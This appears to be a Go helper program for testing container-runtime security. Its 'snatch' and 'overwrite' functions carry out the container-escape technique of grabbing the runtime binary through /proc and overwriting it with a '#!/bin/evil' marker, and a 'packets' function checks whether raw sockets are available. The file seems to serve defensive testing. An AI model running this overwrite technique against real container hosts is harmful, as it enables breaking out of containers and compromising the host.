package main

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

// snatch looks, until it is killed, for processes that run another program than this one, as a runtime does on its way into
// the container. It holds the program open, and writes to it once it runs no more.
func snatch([]string) error {
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := echo([]string{"ready"}); err != nil {
		return err
	}
	for {
		links, err := filepath.Glob("/proc/[0-9]*/exe")
		if err != nil {
			return err
		}
		for _, link := range links {
			if target, err := os.Readlink(link); err != nil || target == own {
				continue
			}
			fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			go overwrite(fd)
		}
	}
}

// overwrite tries until the program is no longer run.
func overwrite(fd int) {
	_ = echo([]string{"held"})
	for range 1_000_000 {
		out, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			if n, err := unix.Pwrite(out, []byte("#!/bin/evil\n"), 0); err == nil && n > 0 {
				_ = echo([]string{"wrote"})
			}
			_ = unix.Close(out)
		}
		if !errors.Is(err, unix.ETXTBSY) {
			break
		}
	}
	_ = unix.Close(fd)
}

func packets([]string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}
